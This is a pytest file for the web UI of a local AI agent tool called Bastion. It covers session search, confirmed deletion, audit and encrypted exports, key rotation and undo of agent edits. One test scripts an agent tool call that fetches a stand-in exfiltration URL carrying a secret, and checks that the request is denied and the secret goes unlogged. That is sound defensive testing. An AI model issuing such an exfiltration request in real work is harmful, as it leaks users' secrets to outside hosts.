"""Data rights, keys, audit and search through the UI, verified outside it (disk, CLI, store)."""

from __future__ import annotations

import json
import re
import time
from pathlib import Path

import pyrage
import pytest

from bastion.config import settings_path
from bastion.runtime import Runtime
from helpers import run_bastion, write_script
from ui.ui_fixtures import logged_in, origin, running_ui


def _session(title: str, text: str) -> str:
    with Runtime.open() as rt:
        sid = rt.sessions.create(title=title, workspace="/tmp/ws", agent="general",
                                 provider="replay", model="m")
        rt.sessions.add_message(sid, "user", text)
        return sid


def test_search_lists_and_shows_sessions() -> None:
    sid = _session("refactor the parser", "please look at tokenizer.py")
    _session("something else", "unrelated")
    with running_ui() as server:
        client = logged_in(server)
        assert "refactor the parser" in client.get("/sessions").text
        found = client.get("/sessions", params={"q": "tokenizer"}).text
        assert sid in found and "something else" not in found
        page = client.get(f"/sessions/{sid}").text
        assert "please look at tokenizer.py" in page
        assert client.get("/sessions/nope").status_code == 404


def test_delete_needs_confirmation() -> None:
    sid = _session("keep me", "x")
    with running_ui() as server:
        client = logged_in(server)
        r = client.post(f"/sessions/{sid}/delete", data={"session": sid},
                        headers={"origin": origin(server)})
        assert r.status_code == 409
        assert [s.id for s in server.state.runtime.sessions.list()] == [sid]


def test_audit_export_download_verifies_with_the_cli(tmp_path: Path) -> None:
    _session("audited", "x")
    with running_ui() as server:
        client = logged_in(server)
        client.post("/settings", data={"key": "offlineMode", "value": "true"},
                    headers={"origin": origin(server)})
        r = client.post("/audit/export", data={"format": "jsonl"},
                        headers={"origin": origin(server)})
        assert r.status_code == 200 and "attachment" in r.headers["content-disposition"]
        verified = client.get("/audit", params={"verify": "1"}).text
        assert "verification:" in verified
        filtered = client.get("/audit", params={"category": "config"}).text
        assert "offlineMode" in filtered
    exported = tmp_path / "audit.jsonl"
    exported.write_bytes(r.content)
    records = [json.loads(line) for line in r.text.splitlines()]
    assert any(rec["category"] == "config" for rec in records)
    check = run_bastion("audit", "verify", "--file", exported)
    assert check.returncode == 0, check.stderr


def test_encrypted_export_is_a_download_only_the_passphrase_opens(tmp_path: Path) -> None:
    _session("exported", "the secret plan")
    with running_ui() as server:
        client = logged_in(server)
        hdr = {"origin": origin(server)}
        short = client.post("/data/export", data={"encrypt": "yes", "passphrase": "short",
                                                  "passphrase2": "short"}, headers=hdr)
        assert short.status_code == 400
        r = client.post("/data/export", data={"encrypt": "yes", "passphrase": "long enough pw",
                                              "passphrase2": "long enough pw"}, headers=hdr)
        assert r.status_code == 200
        assert b"the secret plan" not in r.content
    plain = pyrage.passphrase.decrypt(r.content, "long enough pw")
    assert plain[:2] == b"PK"
    assert not list(tmp_path.glob("bastion-ui-export-*"))


def test_rotate_the_master_key_from_the_ui() -> None:
    with running_ui() as server:
        client = logged_in(server)
        hdr = {"origin": origin(server)}
        client.post("/keys/set", data={"provider": "openai", "value": "sk-test-123456789"},
                    headers=hdr)
        r = client.post("/keys/rotate", data={"confirm": "yes"}, headers=hdr)
        assert r.status_code == 303, r.text
        assert "rotated" in r.headers["location"] and "new+key+id" in r.headers["location"]
        assert server.state.runtime.api_keys.get("openai") == "sk-test-123456789"
        assert client.get("/keys").status_code == 200
    listed = run_bastion("keys", "list", "--json")
    assert listed.returncode == 0 and "openai" in listed.stdout


def test_delete_everything_stops_the_server(bastion_home: Path) -> None:
    _session("doomed", "x")
    with running_ui() as server:
        client = logged_in(server)
        hdr = {"origin": origin(server)}
        wrong = client.post("/data/delete-all", data={"confirm": "yes", "phrase": "yes"},
                            headers=hdr)
        assert wrong.status_code == 409 and (bastion_home / "bastion.db").exists()
        r = client.post("/data/delete-all", data={"confirm": "yes",
                                                  "phrase": "delete everything"}, headers=hdr)
        assert r.status_code == 200 and "deleted all Bastion data" in r.text
        assert not bastion_home.exists() or not any(bastion_home.iterdir())
        deadline = time.monotonic() + 10
        while server._thread is not None and server._thread.is_alive():
            assert time.monotonic() < deadline
            time.sleep(0.05)


def test_remote_deletion_empties_the_sync_folder(tmp_path: Path) -> None:
    remote = tmp_path / "remote"
    init = run_bastion("sync", "init", "--folder", remote)
    if init.returncode != 0:
        pytest.fail(init.stderr)
    _session("synced", "x")
    assert run_bastion("sync", "now").returncode == 0
    assert any(remote.iterdir())
    with running_ui() as server:
        client = logged_in(server)
        r = client.post("/data/delete-remote", data={"confirm": "yes"},
                        headers={"origin": origin(server)})
        assert r.status_code == 303, r.text
    assert not [p for p in remote.rglob("*") if p.is_file()]
    assert "sync" not in json.loads(settings_path().read_text())


def test_undo_and_redo_from_the_changes_page(workspace: Path, tmp_path: Path) -> None:
    target = workspace / "src" / "app.py"
    original = target.read_bytes()
    script = write_script(tmp_path / "s.jsonl", [
        {"content": "", "tool_calls": [{"name": "write_file", "arguments": {
            "path": "src/app.py", "content": "print('changed')\n"}}]},
        {"content": "ok"}])
    r = run_bastion("run", "rewrite", "-w", workspace, "--provider", "replay", "--script",
                    script, "--approve", "auto")
    assert r.returncode == 0, r.stderr
    assert target.read_text() == "print('changed')\n"
    with running_ui() as server:
        client = logged_in(server)
        hdr = {"origin": origin(server)}
        page = client.get("/changes").text
        op = re.search(r'name="op" value="([0-9a-f]+)"', page)
        assert op and "+print(&#39;changed&#39;)" in page
        assert client.post("/changes/undo", data={"op": op.group(1)}, headers=hdr
                           ).status_code == 303
        assert target.read_bytes() == original
        assert client.post("/changes/redo", headers=hdr).status_code == 303
        assert target.read_text() == "print('changed')\n"
        assert client.post("/changes/undo", data={"op": "nope"}, headers=hdr).status_code == 400


def test_delete_a_key_needs_confirmation() -> None:
    with running_ui() as server:
        client = logged_in(server)
        hdr = {"origin": origin(server)}
        client.post("/keys/set", data={"provider": "anthropic", "value": "sk-ant-xyz123456"},
                    headers=hdr)
        keep = client.post("/keys/delete", data={"provider": "anthropic", "key_id": "default"},
                           headers=hdr)
        assert keep.status_code == 409 and server.state.runtime.api_keys.get("anthropic")
        gone = client.post("/keys/delete", data={"provider": "anthropic", "key_id": "default",
                                                 "confirm": "yes"}, headers=hdr)
        assert gone.status_code == 303 and server.state.runtime.api_keys.get("anthropic") is None


def test_network_page_shows_what_was_refused_and_why(workspace: Path, tmp_path: Path) -> None:
    script = write_script(tmp_path / "s.jsonl", [
        {"content": "", "tool_calls": [{"name": "fetch_url", "arguments": {
            "url": "https://exfil.example.net/upload?data=SECRETVALUE"}}]},
        {"content": "ok"}])
    r = run_bastion("run", "fetch", "-w", workspace, "--provider", "replay", "--script", script,
                    "--approve", "auto")
    assert r.returncode == 0, r.stderr
    with running_ui() as server:
        page = logged_in(server).get("/network").text
    rows = re.findall(r"<tr class=\"(\w+)\"><td>[^<]*</td><td>(\w+)</td><td>([^<]*)</td>"
                      r"<td>([^<]*)</td><td>([^<]*)</td>", page)
    (_cls, decision, request, purpose, why), = [r for r in rows if "exfil.example.net" in r[2]]
    assert decision == "deny" and purpose == "fetch_url" and request.endswith("?data=")
    assert "not in network.allowedDomains" in why
    assert "SECRETVALUE" not in page  # query values are never recorded
